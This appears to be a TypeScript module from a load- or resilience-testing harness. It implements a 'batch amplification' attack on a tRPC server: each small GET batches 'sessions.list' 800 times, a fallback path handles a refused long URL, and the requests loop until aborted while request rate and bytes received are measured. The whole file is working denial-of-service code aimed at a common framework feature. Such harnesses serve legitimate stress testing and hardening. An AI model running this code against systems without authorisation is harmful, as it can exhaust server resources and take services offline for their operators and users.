import { Agent } from 'node:http';
import type { Attack } from './attackOptions.ts';
import { createTally } from './createTally.ts';
import { formatBytes } from './formatBytes.ts';
import { repeatUntilAborted } from './repeatUntilAborted.ts';
import { requestOnce } from './requestOnce.ts';

const CALLS = 800;
const LOOPS = 2;

/**
 * Batch amplification: one small GET asks for `sessions.list` 800 times in a tRPC batch
 * (`/trpc/a,a,…?batch=1&input={"0":{},…}`), so every request makes the server serialize the whole list
 * 800 times. The spelled-out input makes the URL longer than Node's 16 KiB header limit; if the server
 * refuses that, the loops send the batch without `input`, which tRPC treats as no input for every call.
 */
export const batchAmplification: Attack = async ({ url, token, source, signal, ready }) => {
  const agent = new Agent({ keepAlive: true });
  const headers = { authorization: `Bearer ${token}` };
  const paths = Array.from({ length: CALLS }, () => 'sessions.list').join(',');
  const inputs = Object.fromEntries(Array.from({ length: CALLS }, (_, i) => [i, {}]));
  const withInput = `/trpc/${paths}?batch=1&input=${encodeURIComponent(JSON.stringify(inputs))}`;
  const withoutInput = `/trpc/${paths}?batch=1`;
  const probe = await requestOnce({ url, path: withInput, headers, source, agent, signal });
  const path = probe.status < 400 ? withInput : withoutInput;
  const statuses = createTally();
  let bytes = 0;
  const started = performance.now();
  ready();
  await Promise.all(
    Array.from({ length: LOOPS }, () =>
      repeatUntilAborted(
        signal,
        async () => {
          const res = await requestOnce({ url, path, headers, source, agent, signal });
          statuses.add(res.status);
          bytes += res.bytes;
        },
        (key) => statuses.add(key),
      ),
    ),
  );
  agent.destroy();
  const seconds = (performance.now() - started) / 1000;
  const via =
    path === withInput
      ? `${formatBytes(withInput.length)} URL with input`
      : `with input (${formatBytes(withInput.length)} URL): ${probe.status}; then without input (${formatBytes(withoutInput.length)} URL)`;
  return {
    outcome: `${via}: ${statuses.format()} (${(statuses.total() / seconds).toFixed(0)} req/s), ${formatBytes(bytes)} received (${formatBytes(bytes / seconds)}/s)`,
  };
};
